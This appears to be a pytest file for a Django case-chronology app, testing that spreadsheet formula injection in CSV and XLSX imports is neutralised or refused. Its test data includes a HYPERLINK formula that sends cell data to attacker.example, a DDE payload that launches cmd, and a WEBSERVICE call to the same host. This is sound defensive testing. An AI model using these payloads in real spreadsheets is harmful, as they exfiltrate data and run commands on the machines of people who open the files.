"""Spreadsheet injection: text that a spreadsheet would run as a formula can come in through a
CSV import (as plain text), and leaves every export neutralised; XLSX formulas and macros are
refused at import (tests/chronology/test_entry_import_export.py covers those file checks)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from chronology.models import ChronologyEntry

pytestmark = pytest.mark.django_db

HEADER = "Date,Time,Kind,Summary,Significance,People,Seen,Seen alone,Action,Agency reference\n"
PAYLOADS = ['=HYPERLINK("http://attacker.example/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _import(api_as, user, case, name, content: bytes):
    upload = SimpleUploadedFile(name, content, content_type="application/octet-stream")
    return api_as(user).post(f"/api/v1/cases/{case.pk}/entries/import/", {"file": upload}, format="multipart")


def _csv_with_payloads() -> bytes:
    rows = [HEADER]
    for i, payload in enumerate(PAYLOADS, start=1):
        out = io.StringIO()
        csv.writer(out).writerow([f"2026-01-0{i}", "", "note", payload, "low", "", "", "", payload, f"INJ-{i}"])
        rows.append(out.getvalue())
    return "".join(rows).encode()


def test_formula_text_imported_from_csv_is_stored_as_plain_text(users, case, api_as):
    response = _import(api_as, users.teacher, case, "school.csv", _csv_with_payloads())

    assert response.status_code == 201, response.json()
    assert sorted(ChronologyEntry.objects.values_list("summary", flat=True)) == sorted(PAYLOADS)


def test_formula_text_leaves_the_csv_export_neutralised(users, case, api_as, web_as):
    _import(api_as, users.teacher, case, "school.csv", _csv_with_payloads())

    response = web_as(users.sw).get(f"/cases/{case.pk}/chronology/export.csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert sorted(r["Summary"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    assert all(not r["Summary"].startswith(("=", "+", "-", "@")) for r in rows)


def test_formula_text_is_a_string_cell_in_the_xlsx_export(users, case, api_as, web_as):
    _import(api_as, users.teacher, case, "school.csv", _csv_with_payloads())

    response = web_as(users.sw).get(f"/cases/{case.pk}/chronology/export.xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert not any(isinstance(c.value, str) and c.value.startswith(("=", "+", "@")) for c in cells)


def test_xlsx_with_a_formula_cell_is_refused_and_creates_nothing(users, case, api_as):
    workbook = Workbook()
    workbook.active.append(["Date", "Time", "Kind", "Summary", "Significance", "Agency reference"])
    workbook.active.append(["2026-01-05", "", "note", '=WEBSERVICE("http://attacker.example")', "low", "F-1"])
    out = io.BytesIO()
    workbook.save(out)

    response = _import(api_as, users.teacher, case, "school.xlsx", out.getvalue())

    assert response.status_code == 400
    assert "formulas are not accepted" in response.json()["detail"]
    assert not ChronologyEntry.objects.exists()
